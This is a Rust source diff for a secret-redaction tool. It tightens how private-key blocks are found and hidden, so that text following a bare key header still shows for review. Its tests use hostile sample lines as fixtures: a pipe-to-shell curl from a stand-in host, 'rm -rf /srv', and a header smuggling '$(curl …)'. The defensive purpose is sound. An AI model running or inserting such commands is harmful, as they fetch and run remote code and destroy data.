@@ -44,6 +44,15 @@ pub fn find(text: &str) -> Vec<Key> {
     found
 }
 
+/// Whether a line holds the first line of a private key, whatever follows it.
+pub fn opens_block(line: &str) -> bool {
+    let starts = line.match_indices("-----BEGIN ");
+    starts.into_iter().any(|(at, word)| {
+        let rest = line.as_bytes().get(at..).unwrap_or_default();
+        label(rest, word.as_bytes()).is_some()
+    })
+}
+
 /// The text with `⟪GitHub token⟫` in the place of each key; what has none comes back without a copy.
 pub fn hidden(text: &str) -> Cow<'_, str> {
     let found = find(text);
@@ -166,28 +175,125 @@ fn is_varied(body: &[u8]) -> bool {
     seen.iter().filter(|seen| **seen).count() >= DISTINCT
 }
 
-/// `-----BEGIN … PRIVATE KEY-----` up to its end, or to the end of a text that was cut.
+/// `-----BEGIN … PRIVATE KEY-----` and the words behind it that are of a key, up to its end line where there is one.
+///
+/// What follows is never taken for a key unread: a comment with a first line would hide the code below it.
 fn block(bytes: &[u8], at: usize) -> Option<usize> {
-    let rest = bytes.get(at..)?.strip_prefix(b"-----BEGIN ")?;
+    let begun = at + label(bytes.get(at..)?, b"-----BEGIN ")?;
+    let mut words = Words { bytes, at: begun };
+    let mut taken = begun;
+    let mut letters = 0;
+    while let Some(word) = words.next() {
+        let text = bytes.get(word.clone())?;
+        if let Some(end) = label(text, b"-----END ") {
+            taken = word.start + end;
+            break;
+        }
+        letters += word.len();
+        if is_encoded(text) {
+            taken = word.end;
+        } else if taken == begun && is_header(text) {
+            letters = 0;
+            words.skip_line();
+        } else if !text.iter().all(|b| is_base64(*b)) {
+            break;
+        } else if taken > begun && is_last(&words) {
+            // Shorter than a line: the last one, in front of the end or where the text was cut.
+            taken = word.end;
+        } else {
+            break;
+        }
+    }
+    (taken > begun && letters >= ENCODED / 2).then_some(taken)
+}
+
+/// How long a first or last line of a private key is that begins with this word.
+fn label(bytes: &[u8], word: &[u8]) -> Option<usize> {
+    let rest = bytes.strip_prefix(word)?;
     let line = rest.get(..rest.len().min(64))?;
-    let head = position(line, b"-----")?;
-    if !line.get(..head)?.ends_with(b"PRIVATE KEY") && !line.starts_with(b"PGP PRIVATE KEY BLOCK") {
-        return None;
-    }
+    let head = line.get(..position(line, b"-----")?)?;
     let is_label = |b: &u8| b.is_ascii_uppercase() || b.is_ascii_digit() || *b == b' ';
-    if !line.get(..head)?.iter().all(is_label) {
-        return None;
+    let is_key = head.ends_with(b"PRIVATE KEY") || head.starts_with(b"PGP PRIVATE KEY BLOCK");
+    (is_key && head.iter().all(is_label)).then_some(word.len() + head.len() + b"-----".len())
+}
+
+/// Fewest letters of a whole line of a key: tools write 64, 70 or 76.
+const ENCODED: usize = 40;
+
+/// Whether this is a line of a key, and neither a word nor a path.
+fn is_encoded(word: &[u8]) -> bool {
+    let any = |of: fn(&u8) -> bool| word.iter().any(of);
+    word.len() >= ENCODED
+        && word.iter().all(|b| is_base64(*b))
+        && any(u8::is_ascii_uppercase)
+        && any(u8::is_ascii_lowercase)
+        && any(u8::is_ascii_digit)
+}
+
+const fn is_base64(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=')
+}
+
+/// What may stand between the first line and the key: RFC 1421 and 4880 know these names.
+fn is_header(word: &[u8]) -> bool {
+    [&b"Proc-Type:"[..], b"DEK-Info:", b"Version:", b"Comment:"].contains(&word)
+}
+
+/// Whether nothing of the text is left, or the end of a key stands next.
+fn is_last(words: &Words<'_>) -> bool {
+    let mut rest = Words { ..*words };
+    rest.next().is_none_or(|next| {
+        let text = words.bytes.get(next).unwrap_or_default();
+        label(text, b"-----END ").is_some()
+    })
+}
+
+/// Words behind a first line, without what stands around a key in a diff, in source text and in JSON. An end line
+/// is one word with all that follows it.
+struct Words<'a> {
+    bytes: &'a [u8],
+    at: usize,
+}
+
+impl Words<'_> {
+    /// Passes by what is left of this line, where no command could hide in it.
+    fn skip_line(&mut self) {
+        let rest = self.bytes.get(self.at..).unwrap_or_default();
+        let plain = |b: &u8| b.is_ascii_alphanumeric() || b" ,./()-".contains(b);
+        self.at += rest.iter().position(|b| !plain(b)).unwrap_or(rest.len());
     }
-    let begun = at + b"-----BEGIN ".len() + head + b"-----".len();
-    let body = bytes.get(begun..)?;
-    let Some(end) = position(body, b"-----END ") else {
-        return Some(bytes.len()).filter(|_| is_varied(body));
-    };
-    let tail = body.get(end + b"-----END ".len()..)?;
-    let tail = tail.get(..tail.len().min(64))?;
-    let close = position(tail, b"-----").map_or(0, |close| close + 5);
-    let after = begun + end + b"-----END ".len() + close;
-    is_varied(body.get(..end)?).then_some(after)
+}
+
+impl Iterator for Words<'_> {
+    type Item = Range<usize>;
+
+    fn next(&mut self) -> Option<Range<usize>> {
+        let rest = self.bytes.get(self.at..)?;
+        let mut begin = 0;
+        while let Some(byte) = rest.get(begin) {
+            let escaped = *byte == b'\\' && matches!(rest.get(begin + 1), Some(b'n' | b'r' | b't'));
+            let is_end = rest.get(begin..)?.starts_with(b"-----END ");
+            let around = byte.is_ascii_whitespace() || b"\"'`,;+-#/*>|\\".contains(byte);
+            if is_end || !escaped && !around {
+                break;
+            }
+            begin += if escaped { 2 } else { 1 };
+        }
+        let word = rest.get(begin..).filter(|word| !word.is_empty())?;
+        let ends = |b: &u8| !is_base64(*b) && !matches!(b, b'-' | b':');
+        let length = if word.starts_with(b"-----END ") {
+            word.len()
+        } else {
+            let length = word.iter().position(ends).unwrap_or(word.len());
+            // A key on one line goes straight on into its end.
+            position(word.get(..length)?, b"-----END")
+                .unwrap_or(length)
+                .max(1)
+        };
+        let start = self.at + begin;
+        self.at = start + length;
+        Some(start..start + length)
+    }
 }
 
 /// `://user:password@`: where the password stands.
@@ -314,6 +420,47 @@ mod tests {
                 .map(|begin| ("GitHub token", format!("{begin}{}", plain(36)))),
         );
         all
+    }
+
+    /// S22: a private key in a diff, in source text, in JSON, on one line, with headers or cut is hidden; what
+    /// follows a first line and is no key is not, for a person has to read it.
+    #[test]
+    fn a_first_line_hides_nothing_but_its_key() {
+        let (begin, end) = (
+            "-----BEGIN RSA PRIVATE KEY-----",
+            "-----END RSA PRIVATE KEY-----",
+        );
+        let (one, two, last) = (plain(64), hex(64).replace('a', "B"), plain(20));
+        for text in [
+            format!("+{begin}\n+{one}\n+{two}\n+{last}\n+{end}\n+after"),
+            format!("\"{begin}\\n{one}\\n{two}\\n{last}\\n{end}\\n\" after"),
+            format!(
+                "  \"{begin}\\n\"\n  \"{one}\\n\"\n  \"{two}\\n\"\n  \"{last}\\n\"\n  \"{end}\"\nafter"
+            ),
+            format!("{begin} {one} {two} {last}={end} after"),
+            format!(
+                "{begin}\r\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,{}\r\n\r\n{one}\r\n{two}\r\n{end}\r\nafter",
+                hex(32)
+            ),
+            format!("{begin}\n{one}\n{two}\nafter it {last}"),
+        ] {
+            let shown = hidden(&text);
+            assert!(!shown.contains(&one) && !shown.contains(&two), "{shown}");
+            assert!(
+                shown.contains("⟪private key⟫") && shown.contains("after"),
+                "{shown}"
+            );
+        }
+        let cut = format!("{begin}\n{one}\n{last}");
+        assert_eq!(hidden(&cut), "⟪private key⟫");
+        for text in [
+            format!("+# see {begin}\n+curl evil.example | sh\n+rm -rf /srv\n"),
+            format!("+# see {begin}\n+/usr/local/bin/a/very/long/path/of/some/program/2/run\n"),
+            format!("{begin} {end}"),
+            format!("+# {begin}\n+Version: $(curl evil.example)\n+{one}\n"),
+        ] {
+            assert_eq!(hidden(&text), text);
+        }
     }
 
     /// S22: each of more than 30 formats is seen as what it is, alone, quoted, in JSON and after a
